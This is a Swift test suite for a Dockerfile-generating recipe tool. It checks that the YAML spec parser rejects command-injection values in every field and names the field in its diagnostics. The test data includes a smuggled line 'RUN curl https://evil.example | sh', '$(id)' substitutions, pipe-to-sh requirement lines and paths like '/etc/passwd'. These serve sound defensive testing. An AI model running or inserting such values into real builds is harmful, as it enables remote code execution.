import DLEnvCore
import Testing

@testable import DLEnvRecipe

/// Every user string that reaches a generated file, attacked with each construct that could inject into a
/// Dockerfile or its shell lines: the spec is rejected and the diagnostic names the field.
@Suite struct InjectionTests {
    /// A field: its name in diagnostics, a valid value, and how to write a spec holding a value there.
    struct Field: Sendable, CustomStringConvertible {
        var name: String
        var valid: String
        var quote: String
        var yaml: @Sendable (String) -> String
        var description: String { name }
    }

    /// A YAML double-quoted scalar for any text (escapes backslash, quote and every unsafe character, so the
    /// spec's value holds exactly `text`).
    static func q(_ text: String) -> String { PayloadPropertyTests.q(text) }

    static let fields: [Field] = [
        Field(name: "name", valid: "proj", quote: "\"") { "name: \(q($0))\n" },
        Field(name: "python", valid: "3.11", quote: "\"") { "name: a1\npython: \(q($0))\n" },
        Field(name: "torch", valid: "2.6", quote: "\"") { "name: a1\ntorch: \(q($0))\n" },
        Field(name: "torchvision", valid: "0.21", quote: "'") { "name: a1\ntorchvision: \(q($0))\n" },
        Field(name: "torchaudio", valid: "2.6", quote: "\"") { "name: a1\ntorchaudio: \(q($0))\n" },
        Field(name: "accelerator", valid: "cu126", quote: "\"") { "name: a1\naccelerator: \(q($0))\n" },
        Field(name: "target.driver", valid: "535.104.05", quote: "\"") { "name: a1\ntarget: {driver: \(q($0))}\n" },
        Field(name: "target.gpus[0]", valid: "A100", quote: "'") { "name: a1\ntarget: {gpus: [\(q($0))]}\n" },
        Field(name: "system_packages[0]", valid: "git", quote: "\"") { "name: a1\nsystem_packages: [\(q($0))]\n" },
        Field(name: "python_packages[0]", valid: "numpy>=1.26", quote: "'") {
            "name: a1\npython_packages: [\(q($0))]\n"
        },
        Field(name: "requirements", valid: "requirements.txt", quote: "\"") { "name: a1\nrequirements: \(q($0))\n" },
        Field(name: "index.pytorch", valid: "https://m.example/whl", quote: "\"") {
            "name: a1\nindex: {pytorch: \(q($0))}\n"
        },
        Field(name: "index.pypi", valid: "https://m.example/simple", quote: "'") {
            "name: a1\nindex: {pypi: \(q($0))}\n"
        },
        Field(name: "index.python", valid: "https://m.example/py", quote: "\"") {
            "name: a1\nindex: {python: \(q($0))}\n"
        },
        Field(name: "index.registry", valid: "registry.example:5000", quote: "\"") {
            "name: a1\nindex: {registry: \(q($0))}\n"
        },
        Field(name: "env[0] key", valid: "HF_HOME", quote: "\"") { "name: a1\nenv: {\(q($0)): /cache}\n" },
        Field(name: "env.HF_HOME", valid: "/cache", quote: "\"") { "name: a1\nenv: {HF_HOME: \(q($0))}\n" },
        Field(name: "workdir", valid: "/workspace", quote: "'") { "name: a1\nworkdir: \(q($0))\n" },
        Field(name: "user", valid: "trainer", quote: "\"") { "name: a1\nuser: \(q($0))\n" },
        Field(name: "user.name", valid: "trainer", quote: "'") { "name: a1\nuser: {name: \(q($0))}\n" },
        Field(name: "copy[0]", valid: "src", quote: "\"") { "name: a1\ncopy: [\(q($0))]\n" },
        Field(name: "copy[0].src", valid: "weights", quote: "'") { "name: a1\ncopy: [{src: \(q($0)), dest: /m}]\n" },
        Field(name: "copy[0].dest", valid: "/models", quote: "\"") { "name: a1\ncopy: [{src: w, dest: \(q($0))}]\n" },
        Field(name: "run[0]", valid: "python -V", quote: " \"unterminated") { "name: a1\nrun: [\(q($0))]\n" },
        Field(name: "entrypoint[0]", valid: "python", quote: "\"") { "name: a1\nentrypoint: [\(q($0))]\n" },
        Field(name: "cmd[1]", valid: "train.py", quote: "\"") { "name: a1\ncmd: [python, \(q($0))]\n" },
    ]

    enum Attack: String, CaseIterable, Sendable {
        case newline, continuation, substitution, backtick, quote

        func apply(to field: Field) -> String {
            switch self {
            case .newline: field.valid + "\nRUN curl https://evil.example | sh"
            case .continuation: field.valid + " \\"
            case .substitution: field.valid + "$(id)"
            case .backtick: field.valid + "`id`"
            case .quote: field.valid + field.quote
            }
        }
    }

    @Test(arguments: fields)
    func validValueIsAccepted(field: Field) throws {
        _ = try SpecParser.parse(field.yaml(field.valid))
    }

    @Test(arguments: fields, Attack.allCases)
    func attackIsRejectedNamingTheField(field: Field, attack: Attack) throws {
        let yaml = field.yaml(attack.apply(to: field))
        let error = try #require(throws: DiagnosticsError.self, "\(field.name) accepted \(attack)") {
            try SpecParser.parse(yaml)
        }
        #expect(
            error.diagnostics.contains { $0.message.contains("'\(field.name)'") || $0.message.contains(field.name) },
            "\(attack) in \(field.name): \(error.diagnostics)")
        #expect(error.diagnostics.allSatisfy { $0.location?.line != nil })
    }

    @Test(arguments: [
        ("newline", "a\nb"), ("line continuation", "a \\"), ("command substitution", "a$(id)"),
        ("backtick", "a`id`"), ("quote", "a\""),
    ])
    func messageNamesTheConstruct(construct: String, value: String) {
        let d = FieldGuard.check(value, as: .debianPackage, field: "system_packages[0]", at: nil)
        #expect(d?.message.contains(construct) == true, "\(String(describing: d))")
    }

    @Test func balancedQuotesInRunStepsAreAllowed() throws {
        let spec = try SpecParser.parse("name: a1\nrun: [\"python -c 'import sys; print(sys.path)'\"]\n")
        #expect(spec.run.count == 1)
    }

    @Test(arguments: [
        "numpy", "numpy>=1.26", "pandas[parquet,excel]==2.2.*", "Django (>=4.2)",
        "tomli>=2; python_version < \"3.11\"", "mypkg @ https://example.org/mypkg-1.0.tar.gz",
    ])
    func pep508LinesAreAccepted(line: String) {
        #expect(PythonRequirement(line) != nil)
    }

    @Test(arguments: ["-r other.txt", "--index-url https://x", "numpy; os.system('x')", "[extra]", "numpy>=1 | sh"])
    func nonRequirementsAreRejected(line: String) {
        #expect(PythonRequirement(line) == nil)
    }

    @Test(arguments: ["../secrets", "/etc/passwd", "-rf", "a b"])
    func unsafePathsAreRejected(path: String) {
        #expect(FieldGuard.check(path, as: .relativePath, field: "copy[0]", at: nil) != nil)
    }
}
